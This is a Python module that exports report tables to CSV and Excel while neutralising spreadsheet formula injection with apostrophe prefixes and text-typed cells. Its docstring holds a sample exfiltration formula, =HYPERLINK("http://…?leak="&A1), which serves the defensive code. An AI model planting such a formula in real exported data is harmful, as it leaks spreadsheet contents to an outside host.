"""The report's tables as files: one CSV each and one workbook, safe to open.

:func:`write_tables` writes what ``--tables`` asks for, from the tables a report displayed
(the ``TABLE_MIME`` output each ``show_table`` leaves); no text from an ad account can
become a live formula in them (:func:`csv_safe`, and text cells typed as text).
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

from atribu_pandas.reports.export import TABLE_MIME

if TYPE_CHECKING:
    import nbformat

__all__ = ["csv_safe", "report_tables", "write_tables"]


def report_tables(nb: nbformat.NotebookNode) -> list[dict[str, Any]]:
    """Return the tables a report showed, in order: ``name``, ``title``, ``columns``, ``data``.

    Examples
    --------
    >>> from nbformat.v4 import new_notebook
    >>> report_tables(new_notebook())
    []
    """
    tables = []
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            table = output.get("data", {}).get(TABLE_MIME)
            if table:
                tables.append(json.loads(table) if isinstance(table, str) else dict(table))
    return tables


def _sheet_name(name: str, used: set[str]) -> str:
    # Excel: at most 31 characters, none of []:*?/\ and unique in the workbook.
    base = re.sub(r"[\[\]:*?/\\]", " ", name)[:31] or "table"
    candidate, n = base, 2
    while candidate.lower() in used:
        suffix = f" ({n})"
        candidate, n = base[: 31 - len(suffix)] + suffix, n + 1
    used.add(candidate.lower())
    return candidate


def write_tables(nb: nbformat.NotebookNode, folder: Path, stem: str) -> list[Path]:
    """Write every table of an executed report as ``<stem>-<name>.csv`` and ``<stem>.xlsx``.

    The figures are the raw values (not the formatted text) under the human headers the
    report shows, so a spreadsheet can add them up.

    Returns
    -------
    list of pathlib.Path
        The CSV files, then the workbook (nothing when the report showed no table).

    Examples
    --------
    >>> from nbformat.v4 import new_notebook
    >>> write_tables(new_notebook(), Path("unused"), "empty")
    []
    """
    import pandas as pd

    tables = report_tables(nb)
    if not tables:
        return []
    folder.mkdir(parents=True, exist_ok=True)
    written: list[Path] = []
    frames: list[tuple[str, pd.DataFrame]] = []
    used: set[str] = set()
    for table in tables:
        frame = pd.DataFrame(table["data"], columns=table["columns"])
        path = folder / f"{stem}-{table['name']}.csv"
        # CRLF, as RFC 4180 and Excel have it: a carriage return inside a name is then
        # quoted, not read as the end of a row.
        safe = frame.map(csv_safe).rename(columns=csv_safe)
        safe.to_csv(path, index=False, lineterminator="\r\n")
        written.append(path)
        frames.append((_sheet_name(str(table.get("title") or table["name"]), used), frame))
    workbook = folder / f"{stem}.xlsx"
    with pd.ExcelWriter(workbook, engine="openpyxl") as writer:
        for sheet, frame in frames:
            frame.to_excel(writer, sheet_name=sheet, index=False)
            _text_as_text(writer.sheets[sheet])
    written.append(workbook)
    return written


# What a spreadsheet reads as the start of a formula in a CSV cell (OWASP's list).
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    """Return a CSV cell that no spreadsheet evaluates: text that would start a formula
    gets a leading apostrophe, as OWASP recommends; numbers, and text that is one, stay.

    A campaign or ad name is whatever someone typed in the ad platform, so
    ``=HYPERLINK("http://…?leak="&A1)`` must arrive as text.

    Examples
    --------
    >>> csv_safe("=1+2"), csv_safe("-3.5"), csv_safe("@SUM(A1)"), csv_safe(7)
    ("'=1+2", '-3.5', "'@SUM(A1)", 7)
    """
    if not isinstance(value, str) or not value.startswith(_FORMULA_START):
        return value
    try:
        float(value)
    except ValueError:
        return "'" + value
    return value


def _text_as_text(sheet: Any) -> None:
    # openpyxl stores a string that starts with "=" as a formula: every text cell is text.
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
